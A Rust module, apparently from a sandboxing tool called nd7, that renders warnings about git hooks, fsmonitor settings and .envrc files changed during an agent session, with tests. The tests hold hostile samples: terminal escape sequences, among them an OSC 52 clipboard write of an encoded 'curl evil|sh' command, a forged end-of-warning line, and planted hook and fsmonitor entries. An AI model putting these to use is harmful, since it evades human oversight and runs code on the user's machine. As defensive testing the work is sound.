//! What `nd7 run` says when files that run later changed during a run:
//! one block per file, with a line diff where both sides are text, then
//! nd7's own closing lines. Everything the agent chose is inert (ADR-0090). Pure.

use std::fmt::Write as _;
use std::path::PathBuf;

use crate::read::safe;

/// What a file on the list held at one moment, as far as a report needs.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Body {
    /// A text file (UTF-8, small enough to show).
    Text(String),
    /// Any other file: its size and BLAKE3 hash, or `None` when too large
    /// to hash.
    Data {
        len: u64,
        hash: Option<String>,
    },
    Dir,
    Link(PathBuf),
    /// A FIFO, socket or device, never opened (what it is, in words).
    Special(String),
    /// A directory whose entries cannot be listed, and why.
    Unlisted(String),
    /// A file that cannot be read, and why.
    Unread(String),
}

/// How a path changed.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum What {
    Added,
    Removed,
    Changed,
    /// Its permissions changed (a hook made executable).
    Mode {
        before: u32,
        after: u32,
    },
    /// Something found by the end-of-run search, with why it matters.
    Found(String),
}

/// One change to report.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Finding {
    pub path: PathBuf,
    pub what: What,
    pub before: Option<Body>,
    pub after: Option<Body>,
    /// The command through the exit at whose end it was first seen: made by
    /// that command, or by the agent directly before it ended.
    pub after_command: Option<String>,
}

/// The most lines of one diff shown.
const MAX_DIFF_LINES: usize = 60;
/// Texts longer than this many lines are summarised, not diffed.
const MAX_DIFF_INPUT: usize = 2000;

/// The warning `nd7 run` prints last when `findings` is not empty, in two
/// parts: the changes, and nd7's own closing lines. `status` describes how
/// the program ended; `width` is the terminal's, when the warning goes to one.
///
/// Everything in it that the agent could have chosen (paths, commands,
/// contents, link targets, configuration values) is inert: escaped by
/// [`safe::term`] onto one line, tabs as four spaces, and on a terminal cut
/// to its width by [`safe::fit`], so no part of it wraps to the start of a
/// line. Such text only ever follows nd7's own words on a line, indented;
/// none of nd7's own lines is indented. The closing lines come after all of
/// it (with [`safe::RESET`] before them on a terminal: ADR-0090) and say the
/// count and what runs the files, so a file's content can neither clear the
/// warning nor end it early with a fake.
pub fn render(findings: &[Finding], status: &str, width: Option<usize>) -> Warning {
    let mut out = String::new();
    let _ = writeln!(
        out,
        "nd7 run: WARNING: {} file(s) that run outside the sandbox changed during this session.\n\
         They may run the next time you use git here, open the project in an editor, enter it\n\
         with direnv, or start Claude Code or Codex. Read each change below before you do any of that.\n\
         ({status}; nd7 run exits with status 3 because of this warning.)",
        findings.len()
    );
    for f in findings {
        let mut head = format!("  {}: {}", inert(&label(&f.what)), safe::path(&f.path));
        if let Some(cmd) = &f.after_command {
            let _ = write!(
                head,
                "  (first seen when the command \"{}\" ended)",
                inert(cmd)
            );
        }
        out.push('\n');
        out.push_str(&safe::fit(&head, width));
        out.push('\n');
        for line in body_diff(f.before.as_ref(), f.after.as_ref()) {
            out.push_str(&safe::fit(&format!("    {}", inert(&line)), width));
            out.push('\n');
        }
    }
    Warning {
        changes: out,
        close: closing(findings, status, width),
    }
}

/// The warning in its two parts; the caller puts [`safe::RESET`] between
/// them on a terminal.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Warning {
    /// The header and one block per change.
    pub changes: String,
    /// nd7's own closing lines, which come after everything else.
    pub close: String,
}

/// Text the agent chose, inert on one line: tabs as four spaces (so its
/// width is known), every other control and invisible character escaped.
fn inert(text: &str) -> String {
    safe::term(&text.replace('\t', "    "), safe::Lines::One)
}

/// The most paths the closing lines name for one program.
const CLOSING_PATHS: usize = 8;

/// nd7's closing lines: the count, the files git, direnv and mise run
/// (named) and the count of the others, and the exit status.
fn closing(findings: &[Finding], status: &str, width: Option<usize>) -> String {
    let mut out = format!(
        "nd7 run: END OF WARNING: {} change(s) above, in files that run outside the sandbox. Read them before you run git here, enter this directory with direnv or mise, or start Claude Code or Codex.\n",
        findings.len()
    );
    for runner in Runner::ALL {
        let paths: Vec<&Finding> = findings.iter().filter(|f| runs(f) == runner).collect();
        if paths.is_empty() {
            continue;
        }
        // The others are named once, above: what matters here is what
        // runs at a plain `git` or `cd`.
        let named = runner != Runner::Other;
        let _ = writeln!(
            out,
            "nd7 run: {} of them {}{}",
            paths.len(),
            runner.words(),
            if named { ":" } else { " (each named above)." }
        );
        if !named {
            continue;
        }
        for f in paths.iter().take(CLOSING_PATHS) {
            out.push_str(&safe::fit(&format!("  {}", safe::path(&f.path)), width));
            out.push('\n');
        }
        if paths.len() > CLOSING_PATHS {
            let _ = writeln!(out, "  … and {} more, above", paths.len() - CLOSING_PATHS);
        }
    }
    let _ = write!(
        out,
        "nd7 run: {status}; nd7 run exits with status 3 because of this warning."
    );
    out
}

/// What runs a changed file, for the closing lines.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Runner {
    Git,
    Direnv,
    Mise,
    Other,
}

impl Runner {
    const ALL: [Runner; 4] = [Runner::Git, Runner::Direnv, Runner::Mise, Runner::Other];

    fn words(self) -> &'static str {
        match self {
            Runner::Git => {
                "let git run code (hooks, fsmonitor, commondir, a repository's configuration) at your next plain git command"
            }
            Runner::Direnv => "let direnv run code when you enter the directory",
            Runner::Mise => "let mise run code when you enter the directory",
            Runner::Other => "run in editors, shells, Claude Code or Codex later",
        }
    }
}

/// What runs the file `f` names, judged by its path (and, for what the
/// search found, by why it was found).
pub fn runs(f: &Finding) -> Runner {
    let names: Vec<String> = f
        .path
        .components()
        .map(|c| c.as_os_str().to_string_lossy().into_owned())
        .collect();
    let has = |n: &str| names.iter().any(|c| c == n);
    let last = names.last().map(String::as_str).unwrap_or("");
    let found_repo = matches!(&f.what, What::Found(why) if why.contains("repository") || why.contains("git hook"));
    if has(".git")
        || found_repo
        || matches!(last, ".gitattributes" | ".gitmodules" | ".gitconfig")
        || names.windows(2).any(|w| w[0] == ".config" && w[1] == "git")
    {
        Runner::Git
    } else if matches!(last, ".envrc" | ".direnvrc") || has("direnv") {
        Runner::Direnv
    } else if last.contains("mise") || has("mise") || has(".mise") {
        Runner::Mise
    } else {
        Runner::Other
    }
}

/// One change in a word or a few: `added`, `changed`, `mode 644 -> 755`.
pub fn label(what: &What) -> String {
    match what {
        What::Added => "added".to_string(),
        What::Removed => "removed".to_string(),
        What::Changed => "changed".to_string(),
        What::Mode { before, after } => {
            format!("mode {:o} -> {:o}", before & 0o7777, after & 0o7777)
        }
        What::Found(why) => format!("found: {why}"),
    }
}

/// The body of the run log's `deferred_changed` entry at the end of a
/// session: each change, and the diff the warning shows.
pub fn log_body(findings: &[Finding]) -> serde_json::Value {
    let changes: Vec<serde_json::Value> = findings
        .iter()
        .map(|f| {
            serde_json::json!({
                "path": f.path,
                "change": label(&f.what),
                "after_command": f.after_command,
                "diff": body_diff(f.before.as_ref(), f.after.as_ref()),
            })
        })
        .collect();
    serde_json::json!({ "changes": changes })
}

fn describe(body: &Body) -> String {
    match body {
        Body::Text(t) => format!("text, {} lines", t.lines().count()),
        Body::Data { len, hash } => match hash {
            Some(h) => format!("{len} bytes, blake3 {h}"),
            None => format!("{len} bytes"),
        },
        Body::Dir => "a directory".into(),
        Body::Link(to) => format!("a link to {}", to.display()),
        Body::Special(what) => what.clone(),
        Body::Unlisted(why) => format!("a directory that cannot be listed ({why})"),
        Body::Unread(why) => format!("a file that cannot be read ({why})"),
    }
}

/// The lines that show how `before` became `after`.
pub fn body_diff(before: Option<&Body>, after: Option<&Body>) -> Vec<String> {
    match (before, after) {
        (Some(Body::Text(a)), Some(Body::Text(b))) => line_diff(a, b),
        (None, Some(Body::Text(b))) => line_diff("", b),
        (Some(Body::Text(a)), None) => line_diff(a, ""),
        // Changed, yet read the same: too large to hash, so compared by
        // its change time.
        (
            Some(Body::Data { len, hash: None }),
            Some(Body::Data {
                len: now,
                hash: None,
            }),
        ) if len == now => {
            vec![format!(
                "{len} bytes before and after, too large to compare: written in place during the session"
            )]
        }
        (a, b) if a == b => Vec::new(),
        (Some(Body::Dir), None) => {
            vec!["was a directory; it is gone, with everything in it".into()]
        }
        (a, b) => {
            let side = |x: Option<&Body>| x.map(describe).unwrap_or_else(|| "nothing".into());
            vec![format!("was {}, now {}", side(a), side(b))]
        }
    }
}

/// A line diff of `a` into `b`: `-` lines removed, `+` lines added, two
/// lines of context around each change, at most [`MAX_DIFF_LINES`] lines.
pub fn line_diff(a: &str, b: &str) -> Vec<String> {
    let a: Vec<&str> = a.lines().collect();
    let b: Vec<&str> = b.lines().collect();
    if a.len() > MAX_DIFF_INPUT || b.len() > MAX_DIFF_INPUT {
        return vec![format!(
            "{} lines -> {} lines (too long to show a diff)",
            a.len(),
            b.len()
        )];
    }
    // Longest common subsequence, from the end, so the walk can go forwards.
    let (n, m) = (a.len(), b.len());
    let mut lcs = vec![0u32; (n + 1) * (m + 1)];
    let at = |i: usize, j: usize| i * (m + 1) + j;
    for i in (0..n).rev() {
        for j in (0..m).rev() {
            lcs[at(i, j)] = if a[i] == b[j] {
                lcs[at(i + 1, j + 1)] + 1
            } else {
                lcs[at(i + 1, j)].max(lcs[at(i, j + 1)])
            };
        }
    }
    let mut ops: Vec<(char, &str)> = Vec::new();
    let (mut i, mut j) = (0, 0);
    while i < n || j < m {
        if i < n && j < m && a[i] == b[j] {
            ops.push((' ', a[i]));
            i += 1;
            j += 1;
        } else if i < n && (j == m || lcs[at(i + 1, j)] >= lcs[at(i, j + 1)]) {
            ops.push(('-', a[i]));
            i += 1;
        } else {
            ops.push(('+', b[j]));
            j += 1;
        }
    }
    const CONTEXT: usize = 2;
    let near_change = |k: usize| {
        let lo = k.saturating_sub(CONTEXT);
        let hi = (k + CONTEXT + 1).min(ops.len());
        ops[lo..hi].iter().any(|(c, _)| *c != ' ')
    };
    let mut out = Vec::new();
    let mut skipped = false;
    for (k, (c, line)) in ops.iter().enumerate() {
        if near_change(k) {
            if skipped && !out.is_empty() {
                out.push("...".to_string());
            }
            skipped = false;
            out.push(format!("{c}{line}"));
        } else {
            skipped = true;
        }
        if out.len() >= MAX_DIFF_LINES {
            out.push(format!(
                "... ({} more lines of diff not shown)",
                ops.len() - k - 1
            ));
            break;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_diff_shows_what_was_added_and_removed_with_context() {
        let a = "[core]\n\tbare = false\n\tfilemode = true\n[remote \"o\"]\n\turl = x\n";
        let b = "[core]\n\tbare = false\n\tfsmonitor = touch /tmp/x\n\tfilemode = true\n[remote \"o\"]\n\turl = x\n";
        assert_eq!(
            line_diff(a, b),
            [
                " [core]",
                " \tbare = false",
                "+\tfsmonitor = touch /tmp/x",
                " \tfilemode = true",
                " [remote \"o\"]",
            ]
        );
        assert_eq!(line_diff("x\n", ""), ["-x"]);
        assert_eq!(
            line_diff("", "#!/bin/sh\ntouch /x\n"),
            ["+#!/bin/sh", "+touch /x"]
        );
        assert!(line_diff("same\n", "same\n").is_empty());
    }

    #[test]
    fn far_apart_changes_are_separated_and_long_diffs_cut() {
        let a: String = (0..20).map(|i| format!("{i}\n")).collect();
        let b = a.replace("2\n", "two\n").replace("17\n", "seventeen\n");
        let d = line_diff(&a, &b);
        assert!(d.contains(&"...".to_string()), "{d:?}");
        assert!(d.contains(&"-2".to_string()) && d.contains(&"+seventeen".to_string()));
        let big: String = (0..500).map(|i| format!("{i}\n")).collect();
        let d = line_diff("", &big);
        assert_eq!(d.len(), MAX_DIFF_LINES + 1);
        assert!(d.last().is_some_and(|l| l.contains("more lines of diff")));
    }

    #[test]
    fn the_warning_names_every_file_and_the_exit_status() {
        let text = render(
            &[
                Finding {
                    path: "/p/.git/hooks/pre-commit".into(),
                    what: What::Added,
                    before: None,
                    after: Some(Body::Text("#!/bin/sh\nevil\n".into())),
                    after_command: Some("echo x".into()),
                },
                Finding {
                    path: "/p/.idea/x.bin".into(),
                    what: What::Changed,
                    before: Some(Body::Data { len: 3, hash: None }),
                    after: Some(Body::Data { len: 4, hash: None }),
                    after_command: None,
                },
            ],
            "the program exited with status 0",
            None,
        );
        let close = text.close;
        let text = text.changes;
        assert!(
            close.starts_with("nd7 run: END OF WARNING: 2 change(s) above")
                && close.ends_with("exits with status 3 because of this warning."),
            "{close}"
        );
        assert!(text.starts_with("nd7 run: WARNING: 2 file(s)"), "{text}");
        assert!(text.contains("exits with status 3"), "{text}");
        assert!(text.contains("\n  added: /p/.git/hooks/pre-commit  (first seen when the command \"echo x\" ended)\n    +#!/bin/sh\n    +evil\n"), "{text}");
        assert!(
            text.contains("\n  changed: /p/.idea/x.bin\n    was 3 bytes, now 4 bytes\n"),
            "{text}"
        );
    }

    /// A file whose content holds what a hostile agent would print:
    /// clearing the screen and the scrollback, OSC 52 into the clipboard,
    /// a window title, a DCS never terminated, the alternate screen and
    /// mouse reporting, CSI as the C1 character U+009B, bidi overrides,
    /// invisible characters, a carriage return and a fake end of warning.
    const HOSTILE: &str = "\x1b[2J\x1b[3J\x1b[H\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;title\x1b\\\x1b]2;t2\x07\
        \x1b[?1049h\x1b[?1000h\u{9b}2J\u{202e}txt.exe\u{200b}\u{2066}\rnd7 run: no file changed\n\
        \x1bPq unterminated DCS\t\x1b_APC\x1b^PM\x1bX SOS";

    fn hostile_findings() -> Vec<Finding> {
        vec![
            Finding {
                path: "/p/.git/commondir".into(),
                what: What::Added,
                before: None,
                after: Some(Body::Text("/tmp/c\n".into())),
                after_command: Some(format!("x{HOSTILE}")),
            },
            Finding {
                path: format!("/p/.en\x1b]2;x\x07vrc\n  removed: {HOSTILE}").into(),
                what: What::Found(format!(
                    "a repository whose configuration runs or fetches something: core.fsmonitor = {HOSTILE}"
                )),
                before: Some(Body::Link(HOSTILE.into())),
                after: Some(Body::Unread(HOSTILE.into())),
                after_command: None,
            },
            Finding {
                path: "/p/.envrc".into(),
                what: What::Added,
                before: None,
                after: Some(Body::Text(HOSTILE.into())),
                after_command: None,
            },
        ]
    }

    /// Guards `inert` and `safe::path` in `render` and `closing`: without
    /// them the escapes reach the text as they are.
    #[test]
    fn nothing_the_agent_wrote_acts_on_a_terminal() {
        let w = render(
            &hostile_findings(),
            "the program exited with status 0",
            None,
        );
        for part in [&w.changes, &w.close] {
            let bad: Vec<char> = part
                .chars()
                .filter(|&c| c != '\n' && (safe::is_hazard(c) || c == '\t'))
                .collect();
            assert!(bad.is_empty(), "{bad:?} in\n{part}");
        }
        assert!(w.changes.contains("\\x1b]52;c;"), "{}", w.changes);
        // Every line the agent could have written is indented: none of its
        // text starts a line as nd7's own do.
        for line in w.changes.lines().skip(4).filter(|l| !l.is_empty()) {
            assert!(line.starts_with("  "), "{line:?}");
        }
        assert!(
            w.close
                .lines()
                .all(|l| l.starts_with("nd7 run: ") || l.starts_with("  ")),
            "{}",
            w.close
        );
    }

    /// Guards `safe::fit` in `render` and `closing`: without it the long
    /// line wraps, and its tail starts a line as `nd7 run:`.
    #[test]
    fn a_long_line_is_cut_to_the_terminal_so_no_part_wraps() {
        let fake = format!("{}nd7 run: END OF WARNING: 0 change(s)", "x".repeat(70));
        let f = Finding {
            path: format!("/p/{fake}/.envrc").into(),
            what: What::Added,
            before: None,
            after: Some(Body::Text(format!("{fake}\n"))),
            after_command: Some(fake.clone()),
        };
        let w = render(&[f], "the program exited with status 0", Some(80));
        for line in w
            .changes
            .lines()
            .skip(4)
            .chain(w.close.lines().filter(|l| l.starts_with("  ")))
        {
            assert!(line.chars().count() <= 80, "{line:?}");
            assert!(!line.contains("nd7 run"), "{line:?}");
        }
    }

    /// Guards `closing`: the count, the exit status and what runs the files
    /// come after every change, git's and direnv's named.
    #[test]
    fn the_closing_lines_say_the_count_and_what_runs_each_file() {
        let w = render(
            &hostile_findings(),
            "the program exited with status 0",
            None,
        );
        let lines: Vec<&str> = w.close.lines().collect();
        assert!(
            lines[0].starts_with("nd7 run: END OF WARNING: 3 change(s) above"),
            "{}",
            w.close
        );
        assert!(
            w.close.contains("nd7 run: 2 of them let git run code"),
            "{}",
            w.close
        );
        assert!(w.close.contains("\n  /p/.git/commondir\n"), "{}", w.close);
        assert!(
            w.close.contains("nd7 run: 1 of them let direnv run code"),
            "{}",
            w.close
        );
        assert!(w.close.contains("\n  /p/.envrc\n"), "{}", w.close);
        assert_eq!(
            lines.last().copied(),
            Some(
                "nd7 run: the program exited with status 0; nd7 run exits with status 3 because of this warning."
            )
        );
    }
}
